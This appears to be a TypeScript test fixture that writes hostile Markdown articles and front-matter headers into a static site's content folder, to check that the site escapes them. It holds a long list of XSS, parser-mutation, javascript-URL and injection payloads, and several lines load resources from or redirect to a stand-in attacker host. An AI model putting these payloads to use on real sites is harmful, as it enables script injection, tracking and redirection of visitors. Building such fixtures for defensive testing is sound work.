/**
 * Articles that mean harm: each payload stands once in the body of an article, as Markdown and as HTML,
 * and once in every part of a header. `RAN` is set by whatever runs; `EVIL` hears of whatever is asked for.
 */
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';

export const RAN = '__ran';
export const EVIL = 'evil.invalid';

const RUN = `window.${RAN}=1`;
const URL = `https://${EVIL}/x`;

/** Scripts, handlers and addresses that run. */
const RUNNING = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//${EVIL}/x.js></SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src="x"/onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary>y</details>`,
  `<b onpointerenter=${RUN} style="position:fixed;inset:0">x</b>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="JaVaScRiPt&colon;${RUN}">press</a>`,
  `<a href="java&#10;script:${RUN}">press</a>`,
  `<a href="&#1;javascript:${RUN}">press</a>`,
  `<a href="&#x6A;avascript&#58;${RUN}">press</a>`,
  `<a href=" javascript:${RUN}">press</a>`,
  `<a href="vbscript:msgbox(1)">press</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">press</a>`,
  `[press](javascript:${RUN})`,
  `[press](<java\tscript:${RUN}>)`,
  `[press](&#106;avascript:${RUN})`,
  `[press][r]\n\n[r]: JAVASCRIPT:${RUN}`,
  `<javascript:${RUN}>`,
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg/onload=${RUN}>)`,
];

/** What other languages within HTML hide. */
const HIDING = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<textarea></textarea><img src=x onerror=${RUN}></textarea>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `]]><script>${RUN}</script><![CDATA[`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<xmp><img src=x onerror=${RUN}></xmp><plaintext>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
];

/** What asks another host, sends readers away, or takes the page over. */
const ASKING = [
  `<img src="${URL}.gif">`,
  `<img srcset="${URL}.gif 2x" src="//${EVIL}/y.gif">`,
  `![x](//${EVIL}/z.gif)`,
  `<picture><source srcset="${URL}.avif"><img src="${URL}.gif"></picture>`,
  `<video poster="${URL}.gif" src="${URL}.mp4" autoplay></video>`,
  `<audio src="${URL}.mp3" autoplay></audio><embed src="${URL}"><object data="${URL}"></object>`,
  `<table background="${URL}.gif"><tr><td background="${URL}.gif">x</td></tr></table>`,
  `<p style="background:url(${URL}.gif)">x</p>`,
  `<style>@import "${URL}.css"; body{display:none}</style>`,
  `<link rel="stylesheet" href="${URL}.css"><link rel="prefetch" href="${URL}">`,
  `<iframe src="${URL}"></iframe><iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<base href="https://${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${URL}">`,
  `<form action="${URL}"><input name=q autofocus><button formaction="javascript:${RUN}">Go</button></form>`,
  `<a href="/\\${EVIL}/">press</a> <a href="//${EVIL}/" ping="${URL}">press</a>`,
  `<a id="main" name="main" href="https://example.org">x</a><img name="getElementById">`,
  `<p id="timeline" class="skip" data-pagefind-body>x</p><aside id="quotes"></aside>`,
  `<img __ASTRO_IMAGE_="{&quot;src&quot;:&quot;../../../etc/passwd&quot;}">`,
  `__ASTRO_IMAGE_../../package.json`,
  `<a href="https://example.org" title="&#1;0&#1;">x</a> &#1;0&#1;`,
];

/** What ends a line, a cell or a value in feeds, calendars and tables. */
const BREAKING = [
  `x\\nEND:VEVENT\\nBEGIN:VEVENT\\nX-EVIL:1`,
  `x;VALUE=URI:${URL},y\\\\;z`,
  `=HYPERLINK("${URL}")`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= 1 %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#x202e;txt.exe &#x2066;x`,
  `\u2028${RUN}\u2029`,
  `$& $1 $\` %s %0A%0D %2e%2e%2f`,
];

export const PAYLOADS = [...RUNNING, ...HIDING, ...ASKING, ...BREAKING];

/** Writes the articles into a content folder, adds to its people file, and says how many they are. */
export function writeHostileArticles(content: string): number {
  const folder = join(content, 'hostile');
  mkdirSync(folder, { recursive: true });
  const write = (name: string, text: string): void => writeFileSync(join(folder, name), text);
  PAYLOADS.forEach((payload, at) => {
    write(`body-${at}.md`, inBody(payload, at));
    write(`header-${at}.md`, inHeader(payload, at));
  });
  const lines = PAYLOADS.slice(0, 8);
  lines.forEach((payload, at) => write(`line-${at}.md`, ` date 2026-11-0${at + 1} ${payload}\n\nThe clock of harbour office ${at} stopped on Friday.\n`));
  appendFileSync(join(content, '_people.yaml'), stringify({ 'Mara Quist': { role: PAYLOADS[5], aliases: [PAYLOADS[0], 'Quist'], sameAs: `https://example.org/"><img src=x onerror=${RUN}>` } }));
  return 2 * PAYLOADS.length + lines.length;
}

function inBody(payload: string, at: number): string {
  const header = stringify({ title: `Body ${at}`, date: '2026-11-09', tags: ['Harm'] });
  return `---\n${header}---\n\nThe clock stopped on Friday. ${payload} “It ${payload} stopped,” said Mara Quist.\n\n${payload}\n\n- ${payload}\n\n> ${payload}\n\n| ${payload.replace(/[|\n]/g, ' ')} |\n|---|\n| x |\n\n[a](https://example.org "${payload.replace(/["\n]/g, ' ')}") and text[^1].\n\n[^1]: ${payload}\n`;
}

/** One payload in every part of a header; those for speakers and topics take turns, so that the site stays small. */
function inHeader(payload: string, at: number): string {
  const header = stringify({
    title: `${payload} ${at}`,
    date: '2026-11-10',
    updated: '2026-11-11',
    summary: payload,
    author: [payload, 'Dana Reyes'],
    tags: at % 4 === 0 ? ['Harm', payload] : ['Harm'],
    disclosure: payload,
    source: `https://example.org/?${at}="><img src=x onerror=${RUN}>'`,
    timeline: [{ date: '2027-03-01', text: payload }, { date: '2026-11-05', text: `Noon ${payload}` }],
    hide: [payload],
    speakers: { 'It stopped': at % 4 === 1 ? `Mara ${payload}` : 'Mara Quist' },
  });
  return `---\n${header}---\n\nThe clock of tower ${at} stopped on Thursday.\n\n“It stopped at noon,” the keeper said.\n`;
}
